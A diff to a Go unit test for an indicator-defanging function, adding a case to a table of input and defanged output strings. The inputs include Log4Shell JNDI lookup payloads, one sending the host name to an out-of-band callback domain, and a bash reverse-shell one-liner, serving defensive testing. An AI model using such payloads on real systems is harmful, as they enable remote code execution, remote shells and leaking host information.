@@ -9,6 +9,7 @@ func TestTextIsDefangedWhereverAnIndicatorStands(t *testing.T) {
 		"${jndi:ldap://192.0.2.1:1389/a}":            "${jndi:ldap://192.0.2[.]1:1389/a}",
 		"ftp://u:p@example.org/x":                    "fxxp://u:p@example[.]org/x",
 		"chmod 777 aktualisieren.sh; version 1.2":    "chmod 777 aktualisieren.sh; version 1.2",
+		"${jndi:ldap://${hostName}.c1.oast.live/a}":  "${jndi:ldap://${hostName}.c1.oast[.]live/a}",
 		"no indicator at all":                        "no indicator at all",
 		"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1": "bash -i >& /dev/tcp/198.51.100[.]7/4444 0>&1",
 	} {
